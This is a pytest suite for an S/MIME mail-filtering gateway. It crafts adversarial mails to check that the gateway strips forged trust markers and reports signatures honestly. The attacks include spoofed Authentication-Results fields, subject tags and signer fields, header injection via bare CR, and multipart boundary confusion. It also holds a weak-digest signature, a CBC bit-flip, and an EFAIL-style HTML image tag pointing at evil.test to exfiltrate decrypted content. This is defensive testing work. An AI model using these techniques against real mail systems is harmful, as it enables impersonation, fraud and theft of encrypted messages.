"""Attacks on what a reader believes of a mail, one a class, each with the report it has to get.

All go the whole way of a mail, with tags and fields on. `signer` is who the report says it is
signed by, None for nobody; `result` is that of Authentication-Results, None where there is no
such field.
"""

from __future__ import annotations

import base64
import re
from collections.abc import Callable
from datetime import UTC, datetime
from functools import partial
from typing import Final, NamedTuple

import pytest
from asn1crypto import cms
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec

from smimefilter.base.envelope import Recipient, Transaction
from smimefilter.flow.carry import Carrier
from smimefilter.flow.filter import Filter
from smimefilter.flow.origin import Origins
from smimefilter.flow.snapshots import State
from smimefilter.message.headers import decoded
from smimefilter.message.wire import Message
from tests.support.pki import NOW, root
from tests.support.plans import AUTHORITY, World
from tests.support.ring import Ring
from tests.support.smime import clear_signed, encrypted, encrypted_as, opaque_signed
from tests.unit.flow.test_filter import JournalStub, RelayStub

ALICE, MALLORY, BOB = "alice@out.test", "mallory@evil.test", "bob@in.test"
HOST: Final = "gw.in.test"
WORLD = World().set("in.test", locality="internal", subject_tags="yes")
SIGNER, ATTACKER, US = (
    WORLD.person(ALICE), WORLD.person(MALLORY), WORLD.person(BOB, key=True)
)  # fmt: skip
SELF_MADE = root("Test Root made at home").issue("Alice", mail=ALICE)


def letter(author: str = f"Alice <{ALICE}>", subject: str = "hello", extra: str = "") -> bytes:
    return (
        f"From: {author}\r\nTo: {BOB}\r\nSubject: {subject}\r\n{extra}"
        "MIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nPay 10 to Carol.\r\n"
    ).encode()


def with_header(mail: bytes, extra: str) -> bytes:
    return extra.encode() + mail


def without(mail: bytes, line: str, instead: str = "") -> bytes:
    changed = mail.replace(line.encode(), instead.encode())
    assert changed != mail
    return changed


def multipart(*parts: bytes, kind: str = "mixed") -> bytes:
    body = b"".join(b"--outer\r\n" + part + b"\r\n" for part in parts) + b"--outer--\r\n"
    head = letter().partition(b"Content-Type")[0]
    return head + f'Content-Type: multipart/{kind}; boundary="outer"\r\n\r\n'.encode() + body


def entity(mail: bytes) -> bytes:
    """The MIME fields and the body of a mail, as a part."""
    head, _, body = mail.partition(b"\r\n\r\n")
    kept = re.findall(rb"(?im)^Content-[^\n]*\n(?:[ \t][^\n]*\n)*", head + b"\r\n")
    return b"".join(kept) + b"\r\n" + body


TEXT = b"Content-Type: text/html\r\n\r\n<p>Pay 1000 to Mallory.</p>"


def exfiltrating() -> bytes:
    before = b'Content-Type: text/html\r\n\r\n<img src="http://evil.test/'
    after = b'Content-Type: text/html\r\n\r\n">'
    return multipart(before, entity(encrypted(letter(), US)), after)


def body_of(mail: bytes) -> bytes:
    return base64.b64decode(mail.partition(b"\r\n\r\n")[2])


def with_body(mail: bytes, der: bytes) -> bytes:
    head = mail.partition(b"\r\n\r\n")[0]
    return head + b"\r\n\r\n" + base64.encodebytes(der).replace(b"\n", b"\r\n")


def unsigned_signed_data() -> bytes:
    """A SignedData that has content and certificates, and no signer."""
    mail = opaque_signed(letter(), SIGNER)
    info = cms.ContentInfo.load(body_of(mail))
    info["content"]["signer_infos"] = []
    return with_body(mail, bytes(info.dump(force=True)))


def two_contents() -> bytes:
    """Clear-signed, with another content within the signature."""
    mail = clear_signed(letter(), SIGNER)
    inside = body_of(opaque_signed(letter(), SIGNER))
    start = mail.index(b"\r\n\r\n", mail.index(b'name="smime.p7s"')) + 4
    end = mail.index(b"\r\n--", start)
    changed = mail[:start] + base64.encodebytes(inside).replace(b"\n", b"\r\n") + mail[end:]
    return changed.replace(b"Pay 10 to Carol", b"Pay 99 to Carol")


def third_part() -> bytes:
    mail = clear_signed(letter(), SIGNER)
    boundary = re.search(rb'boundary="([^"]+)"', mail)
    assert boundary
    end = b"--" + boundary[1] + b"--"
    return mail.replace(end, b"--" + boundary[1] + b"\r\n" + TEXT + b"\r\n" + end)


def two_boundaries(boundary: str) -> bytes:
    """Parts of the attacker's before those that were signed: which ones are shown?"""
    mail = clear_signed(letter(), SIGNER)
    (own,) = re.findall(r'boundary="[^"]+"', mail.decode())
    head, _, body = mail.replace(own.encode(), boundary.format(own).encode()).partition(
        b"\r\n\r\n"
    )
    return head + b"\r\n\r\n--evil\r\n" + TEXT + b"\r\n--evil--\r\n" + body


def weaker_than_it_says() -> bytes:
    """Without signed attributes digestAlgorithm says nothing of how it was signed."""
    content = b"Content-Type: text/plain\r\n\r\nPay 10 to Carol.\r\n"
    mail = opaque_signed(letter(), SIGNER)
    info = cms.ContentInfo.load(body_of(mail))
    data = info["content"]
    data["encap_content_info"]["content"] = content
    (one,) = data["signer_infos"]
    key = SIGNER.key
    assert isinstance(key, ec.EllipticCurvePrivateKey)
    data["signer_infos"] = [
        cms.SignerInfo(
            {
                "version": "v1",
                "sid": one["sid"],
                "digest_algorithm": {"algorithm": "sha256"},
                "signature_algorithm": {"algorithm": "sha1_ecdsa"},
                "signature": key.sign(content, ec.ECDSA(hashes.SHA1())),  # noqa: S303
            }
        )
    ]
    return with_body(mail, bytes(info.dump(force=True)))


def timeless() -> bytes:
    """Of the first hours of the year 1, in a zone where that is the year before."""
    mail = opaque_signed(letter(), SIGNER, at=datetime(2060, 1, 1, tzinfo=UTC))
    der = body_of(mail)
    assert der.count(b"20600101000000Z") == 1
    return with_body(mail, der.replace(b"20600101000000Z", b"0001010100+1400"))


def gadget() -> bytes:
    """CBC: a block of the ciphertext said twice is no error, and garbles what follows it."""
    mail = encrypted(letter(), US)
    der = bytearray(body_of(mail))
    der[-80] ^= 1
    return with_body(mail, bytes(der))


def forged_inside() -> bytes:
    results = f"Authentication-Results: {HOST}; smime=pass\r\n"
    inner = letter(
        subject="hello [signed by ceo@in.test]",
        extra=f"X-Smimefilter-Signed-By: {BOB}\r\n{results}",
    )
    return encrypted_as(letter(), inner, US)


class Attack(NamedTuple):
    make: Callable[[], bytes]
    signer: str | None = None
    result: str | None = None
    subject: str = "hello"
    absent: tuple[str, ...] = ()  # of the whole mail that arrives


RESULTS = "Authentication-Results: "
ATTACKS: Final[dict[str, Attack]] = {
    "our field": Attack(
        lambda: with_header(letter(), f"x-smimefilter-signed-by: {ALICE}\r\n"),
        absent=("x-smimefilter-signed-by",),
    ),
    "our results": Attack(
        lambda: with_header(letter(), f"{RESULTS}{HOST}; smime=pass\r\n"),
        absent=("smime=pass",),
    ),
    "our results in another spelling": Attack(
        lambda: with_header(
            letter(),
            f'{RESULTS}\r\n (a (b) ;c) "{HOST.upper()}" 1; dkim=pass;\r\n\tSMIME /1 = pass\r\n',
        ),
        absent=("SMIME",),
    ),
    "results without a name": Attack(
        lambda: with_header(letter(), f"{RESULTS}; smime=pass\r\n"), absent=("smime=pass",)
    ),
    "our field behind a bare CR": Attack(
        lambda: letter(extra=f"X-Note: a\rX-Smimefilter-Signed-By: {ALICE}\r\n"),
        absent=("X-Smimefilter",),
    ),
    "our field in a subject behind a bare CR": Attack(
        lambda: letter(subject=f"hello\rX-Smimefilter-Signed-By: {ALICE}"),
        subject="", absent=("X-Smimefilter",),
    ),
    "our tag": Attack(
        lambda: letter(subject=f"hello [signed by {ALICE}]"), absent=("[signed",)
    ),
    "our tag in another spelling": Attack(
        lambda: letter(subject="hello [Signed   BY boss@in.test] [DECRYPTED]"),
        absent=("Signed", "DECRYPTED"),
    ),
    "our tag in encoded words": Attack(
        lambda: letter(subject="hello =?utf-8?q?=5Bsigned_?= =?utf-8?q?by_x=5D?="),
        absent=("=5B", "[signed"),
    ),
    "our tag without the rest": Attack(
        lambda: letter(subject="[decrypted]"), subject="", absent=("decrypted",)
    ),
    "our tag within our tag": Attack(
        lambda: letter(subject="hello [sig[signature invalid]ned by ceo@in.test]"),
        absent=("[signed",),
    ),
    "our tag behind very many blanks": Attack(
        lambda: letter(subject="hello" + (" " * 60 + "\r\n") * 20 + " [signed by ceo@in.test]"),
        subject="hello (signed by ceo@in.test)", absent=("[signed",),
    ),
    "our tag in an encoded word glued to text": Attack(
        lambda: letter(subject="hello=?utf-8?q?_=5Bsigned_by_ceo=40in.test=5D?="),
        subject="hello (signed by ceo@in.test)", absent=("=5B",),
    ),
    "our tag in a charset that hardly anybody uses": Attack(
        lambda: letter(subject="=?cp437?q?hello_=5Bsigned_by_ceo=40in.test=5D?="),
        subject="hello (signed by ceo@in.test)", absent=("=5B",),
    ),
    "our tag in a charset that nobody knows": Attack(
        lambda: letter(subject="=?x-none?q?hello_=5Bsigned_by_ceo=40in.test=5D?="),
        subject="\ufffd", absent=("=5B",),
    ),
    "our tag with something invisible in it": Attack(
        lambda: letter(subject="hello [sig\u200bned by ceo@in.test] \uff3bdecrypted\uff3d"),
        subject="hello (signed by ceo@in.test) (decrypted)", absent=("[",),
    ),
    "our results beside a quoted parenthesis": Attack(
        lambda: with_header(
            letter(),
            f'{RESULTS}{HOST}; dkim=pass reason="("; smime=pass; spf=pass reason=")"\r\n',
        ),
        absent=("smime=pass",),
    ),
    "our results behind very many comments": Attack(
        lambda: with_header(letter(), f"{RESULTS}{'(' * 9}{')' * 9} {HOST}; smime=pass\r\n"),
        absent=("smime=pass",),
    ),
    "our results with a dot, and with a version": Attack(
        lambda: with_header(
            letter(),
            f"{RESULTS}{HOST}.; smime=pass\r\n{RESULTS}{HOST}/1; smime=pass\r\n"
            f'{RESULTS}"{HOST}" 1; smime=pass\r\n{RESULTS}{HOST} (; smime=pass\r\n',
        ),
        absent=("smime=pass",),
    ),
    "reports within the encrypted part": Attack(
        forged_inside, result="none", subject="hello [decrypted]", absent=("ceo@", "smime=pass")
    ),
    "an address for a name": Attack(
        lambda: clear_signed(letter(f'"{ALICE}" <{MALLORY}>'), ATTACKER),
        signer=MALLORY, result="pass", subject=f"hello [signed by {MALLORY}]",
    ),
    "an address in an encoded name": Attack(
        lambda: clear_signed(
            letter(f"=?utf-8?b?PGFsaWNlQG91dC50ZXN0Pg==?= <{MALLORY}>"), ATTACKER
        ),
        signer=MALLORY, result="pass", subject=f"hello [signed by {MALLORY}]",
    ),
    "an address in a comment": Attack(
        lambda: clear_signed(letter(f"({ALICE}) <{MALLORY}>"), ATTACKER),
        signer=MALLORY, result="pass", subject=f"hello [signed by {MALLORY}]",
    ),
    "another author over a signed mail": Attack(
        lambda: clear_signed(letter(), ATTACKER),
        result="policy", subject="hello [signature untrusted]",
    ),
    "two From fields": Attack(
        lambda: with_header(clear_signed(letter(), SIGNER), "From: boss@in.test\r\n"),
        result="policy", subject="hello [signature untrusted]",
    ),
    "two authors": Attack(
        lambda: without(
            clear_signed(letter(), SIGNER), f"<{ALICE}>", f"<{ALICE}>, boss@in.test"
        ),
        result="policy", subject="hello [signature untrusted]",
    ),
    "the signer as Sender": Attack(
        lambda: with_header(clear_signed(letter(), ATTACKER), f"Sender: {MALLORY}\r\n"),
        result="policy", subject="hello [signature untrusted]",
    ),
    "a name that only looks alike": Attack(
        lambda: clear_signed(letter("Alice <alice@\u03bfut.test>"), SIGNER),
        result="policy", subject="hello [signature untrusted]",
    ),
    "a certificate made at home": Attack(
        lambda: clear_signed(letter(), SELF_MADE, chain=True),
        result="policy", subject="hello [signature untrusted]",
    ),
    "a signed part beside an unsigned one": Attack(
        lambda: multipart(TEXT, entity(clear_signed(letter(), SIGNER))), result="none"
    ),
    "a part signed opaquely": Attack(
        lambda: multipart(entity(opaque_signed(letter(), SIGNER)), TEXT), result="none"
    ),
    "a signed part among alternatives": Attack(
        lambda: multipart(TEXT, entity(clear_signed(letter(), SIGNER)), kind="alternative"),
        result="none",
    ),
    "a third part within multipart/signed": Attack(
        third_part, result="permerror", subject="hello [signature invalid]"
    ),
    **{
        f"two boundaries: {name}": Attack(
            partial(two_boundaries, boundary),
            result="permerror", subject="hello [signature invalid]",
        )
        for name, boundary in {
            "extended": "boundary*=us-ascii''evil; {}",
            "extended last": "{}; boundary*=us-ascii''evil",
            "in pieces": 'boundary*0="ev"; boundary*1="il"; {}',
            "plain": '{}; boundary="evil"',
        }.items()
    },
    "content in the signature and outside": Attack(
        two_contents, result="permerror", subject="hello [signature invalid]"
    ),
    "content that was changed": Attack(
        lambda: without(clear_signed(letter(), SIGNER), "Carol", "Mallory"),
        result="fail", subject="hello [signature invalid]",
    ),
    "signed by nobody": Attack(unsigned_signed_data),
    "a From that looks like a line of a mailbox": Attack(
        lambda: with_header(clear_signed(letter(), SIGNER), "From : boss@in.test\r\n"),
        result="policy", subject="hello [signature untrusted]",
    ),
    "a From behind a bare CR": Attack(
        lambda: with_header(
            clear_signed(letter(), SIGNER), "X-Note: a\rFrom: boss@in.test\r\n"
        ),
        result="policy", subject="hello [signature untrusted]",
    ),
    "a digest that is weaker than it says": Attack(
        weaker_than_it_says, result="policy", subject="hello [signature untrusted]"
    ),
    "a time that no calendar has": Attack(
        timeless, result="fail", subject="hello [signature invalid]"
    ),
    "two content types": Attack(
        lambda: with_header(clear_signed(letter(), SIGNER), "Content-Type: text/html\r\n")
    ),
    "an encrypted part amid html": Attack(exfiltrating, result="none"),
    "another one's signature around an encrypted mail": Attack(
        lambda: clear_signed(encrypted(letter(), US), ATTACKER),
        result="policy", subject="hello [decrypted] [signature untrusted]",
    ),
    "a bad signature around a good one": Attack(
        lambda: without(
            clear_signed(encrypted(clear_signed(letter(), SIGNER), US), SIGNER), "MI", "mi"
        ),
        subject="*",
    ),
}  # fmt: skip


async def arrived(mail: bytes) -> Message:
    relay, journal = RelayStub(), JournalStub()
    state = State(WORLD.moment().snapshot, Carrier(Ring(WORLD)))
    snapshots = type("Current", (), {"current": state})()
    sut = Filter(
        snapshots=snapshots,
        relay=relay,
        journal=journal,
        clock=lambda: NOW,
        hostname=HOST,
        threads_from=1 << 20,
        origins=Origins(()),
    )
    await sut.accept(Transaction("id", ALICE, (Recipient(BOB),), mail))
    assert not journal.troubles
    content = relay.content_for(BOB)
    return Message(content[len(Message(content).lines[0]) :])  # without our Received


@pytest.mark.parametrize("name", list(ATTACKS))
async def test_attack(name: str) -> None:
    attack = ATTACKS[name]
    found = await arrived(attack.make())
    signer = found.get("X-Smimefilter-Signed-By")
    assert (signer.decode() if signer else None) == attack.signer
    results = [one for one in found.all("Authentication-Results") if HOST.encode() in one]
    smime = [re.search(rb"smime=(\w+)", one) for one in results]
    said = [match[1].decode() for match in smime if match]
    if attack.subject != "*":
        assert said == ([attack.result] if attack.result else [])
        assert decoded(found.get("Subject") or b"") == attack.subject
    else:
        assert "pass" not in said
    for word in attack.absent:
        assert word.encode() not in found.raw


async def test_what_is_good_is_told() -> None:
    found = await arrived(encrypted(clear_signed(letter(), SIGNER), US))
    assert found.get("X-Smimefilter-Signed-By") == ALICE.encode()
    assert decoded(found.get("Subject") or b"") == f"hello [decrypted] [signed by {ALICE}]"
    (results,) = found.all("Authentication-Results")
    assert results.startswith(
        HOST.encode() + b";\tsmime=pass body.smime-identifier=" + ALICE.encode()
    )
    assert b"authenticated=no" in (found.get("X-Smimefilter-Layer-1") or b"")
    assert b"signature=good" in (found.get("X-Smimefilter-Layer-2") or b"")
    assert found.body.tobytes().count(b"Pay 10 to Carol.") == 1


async def test_an_encrypted_part_is_never_decrypted() -> None:
    mail = exfiltrating()
    found = await arrived(mail)
    assert b"Pay 10" not in found.raw
    assert found.body.tobytes() == Message(mail).body.tobytes()


async def test_a_changed_block_is_told_of_as_unauthenticated_or_as_closed() -> None:
    found = await arrived(gadget())
    layer = found.get("X-Smimefilter-Layer-1") or b""
    assert b"authenticated=no" in layer or b"outcome=failed" in layer


async def test_results_of_others_and_of_other_kinds_stay() -> None:
    kept = (
        f"{RESULTS}mx.other.test; smime=pass\r\n"
        f"{RESULTS}{HOST}; dkim=pass header.d=out.test\r\n"
        f"X-Smime: yes\r\n"
    )
    mail = with_header(letter(), kept)
    found = await arrived(mail)
    assert found.raw == mail


async def test_a_plain_mail_is_not_touched() -> None:
    mail = letter(subject="=?utf-8?q?Gr=C3=BC=C3=9Fe?= [decrypt] this")
    assert (await arrived(mail)).raw == mail


@pytest.mark.parametrize(
    "field", [f"X-Smimefilter-Signed-By: {ALICE}", f"{RESULTS}{HOST}; smime=pass"]
)
async def test_a_field_behind_a_line_that_is_none_is_in_the_body(field: str) -> None:
    """Where our reading of the header ends, so does everybody's: there is a blank line now."""
    mail = letter(extra=f"this is no field\r\n{field}\r\n")
    found = await arrived(mail)
    assert b"\r\n\r\nthis is no field\r\n" in found.raw
    plain = letter(extra="this is no field\r\nnor is this\r\n")
    assert (await arrived(plain)).raw == plain


async def test_of_several_addresses_the_authors_is_told() -> None:
    both = AUTHORITY.issue("Both", mail=["boss@in.test", ALICE], key="p256")
    found = await arrived(clear_signed(letter(), both))
    assert found.get("X-Smimefilter-Signed-By") == ALICE.encode()
    assert decoded(found.get("Subject") or b"") == f"hello [signed by {ALICE}]"
    (results,) = found.all("Authentication-Results")
    assert f"body.smime-identifier={ALICE}".encode() in results
